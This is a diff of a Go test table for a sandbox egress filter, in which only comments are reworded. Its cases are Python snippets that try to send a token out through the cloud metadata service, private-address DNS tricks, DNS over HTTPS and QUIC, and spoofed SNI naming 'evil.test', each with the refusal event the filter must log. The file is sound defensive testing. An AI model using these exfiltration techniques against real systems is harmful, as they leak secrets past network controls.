@@ -1,17 +1,17 @@
 package wall
 
-// An attack is a program that tries to get out of a sandbox with a token.
+// An attack is a program that tries to send a token out of a sandbox.
 type attack struct {
 	name string
-	code string // body of a Python function of the token; see tricks.py in package attack. What it returns, it got
+	code string // body of a Python function of the token; see tricks.py in package attack. It returns the data that it received
 	// event is a regular expression that an event of a refusal must match:
 	// "KIND PROTOCOL HOST ADDRESS | RULE | REASON".
 	event string
-	// inside says why nothing reaches the wall, so that there is no event.
+	// inside is the reason why nothing reaches the wall, so that there is no event.
 	inside string
-	// shut says why there is no door through which it could succeed.
+	// shut is the reason why the attack cannot succeed with an open policy either.
 	shut string
-	// bodies may contain the token: only what servers take for a request
+	// bodies means that bodies may contain the token: only data that servers parse as a request
 	// counts.
 	bodies bool
 }
@@ -34,7 +34,7 @@ ips = lookup('metadata.google.internal')
 return http(ips[0], token) if ips else None`, event: `lookup .*metadata.google.internal`},
 	{name: "metadata, in the Host header", code: `return http('plain.test', token, host='169.254.169.254')`, event: `claim tcp .*names an address`},
 
-	// Names that lead elsewhere than they should.
+	// Names that resolve to other addresses than they should.
 	{name: "a name for a private address", code: `
 ips = lookup('private.wild.test')
 return http(ips[0], token) if ips else None`, event: `lookup .*private.wild.test 10.1.2.3.*private`},
@@ -124,7 +124,7 @@ with connect('allowed.test', 853) as s:
 	{name: "DNS over HTTPS by address", code: `return https('8.8.8.8', token, None)`, event: `connect tcp .*8.8.8.8:443`},
 	{name: "DNS over QUIC", code: `return got(udp('cdn.test', 853, token.encode()))`, event: `connect udp cdn.test .*:853`, shut: "nobody listens there"},
 
-	// The host that a client claims.
+	// The host name that a client claims.
 	{name: "another host in SNI", code: `return https('cdn.test', token, 'evil.test')`, event: `claim tcp evil.test .*no rule opens`},
 	{name: "another allowed host in SNI", code: `return https('cdn.test', token, 'allowed.test')`, event: `claim tcp allowed.test .*not given out`},
 	{name: "no SNI", code: `return https('cdn.test', token, None)`, event: `claim tcp .*names no host`},
